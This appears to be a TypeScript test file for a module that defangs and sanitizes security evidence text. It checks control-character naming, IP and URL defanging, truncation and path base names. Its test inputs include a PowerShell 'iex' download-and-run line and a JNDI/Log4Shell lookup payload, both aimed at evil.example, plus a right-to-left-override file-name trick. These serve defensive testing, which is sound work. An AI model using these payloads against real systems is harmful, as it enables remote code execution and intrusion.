import { expect, test } from 'vitest';
import fc from 'fast-check';
import { baseName, defangName, defangText, middleEllipsis, quotable, visible } from './evidence-text.ts';

const hasLoneSurrogate = (text: string): boolean => /\p{Cs}/u.test(text);

test('what cannot be seen gets a name; what can be seen stays', () => {
  expect(visible('a\u0000b\u001b[31m\u202Egpj.exe\u200b\r\n日本語 é')).toBe(
    'a␀b␛[31m‹U+202E›gpj.exe‹U+200B›␍␊日本語 é',
  );
});

test('addresses, names and links cannot be followed any more', () => {
  expect(defangName('203.0.113.5')).toBe('203[.]0[.]113[.]5');
  expect(defangName('203[.]0[.]113[.]5')).toBe('203[.]0[.]113[.]5');
  expect(defangName('2001:db8::1')).toBe('2001[:]db8[:][:]1');
  expect(defangText('iex (http://evil.example/a.ps1); ping 203.0.113.5 10.0.18362.1')).toBe(
    'iex (hxxp://evil[.]example/a.ps1); ping 203[.]0[.]113[.]5 10.0.18362.1',
  );
  expect(defangText('${jndi:ldap://evil.example:1389/a}')).toBe('${jndi:ldap[:]//evil[.]example:1389/a}');
});

test('long text keeps its head and its tail, and never splits a character', () => {
  expect(middleEllipsis('abcdefghij', 7)).toBe('abcd…ij');
  fc.assert(
    fc.property(fc.string({ unit: 'grapheme', maxLength: 300 }), fc.integer({ min: 4, max: 80 }), (text, limit) => {
      const short = middleEllipsis(text, limit);
      expect(Array.from(short).length).toBeLessThanOrEqual(Math.max(limit, 0));
      expect(hasLoneSurrogate(short)).toBe(hasLoneSurrogate(text) && hasLoneSurrogate(short));
    }),
  );
});

test('any evidence becomes one short line without hidden characters, in linear time', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 2000 }), (text) => {
      const line = quotable(text);
      expect(line).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/);
      expect(hasLoneSurrogate(line)).toBe(false);
    }),
  );
  const started = performance.now();
  defangText('http://'.repeat(20_000) + '1.'.repeat(50_000));
  expect(performance.now() - started).toBeLessThan(2000);
});

test('the name of a file is the last part of its path, of either kind', () => {
  expect(['C:\\Windows\\x.exe', '/bin/sh', 'x.exe', 'C:\\'].map(baseName)).toEqual(['x.exe', 'sh', 'x.exe', 'C:\\']);
});
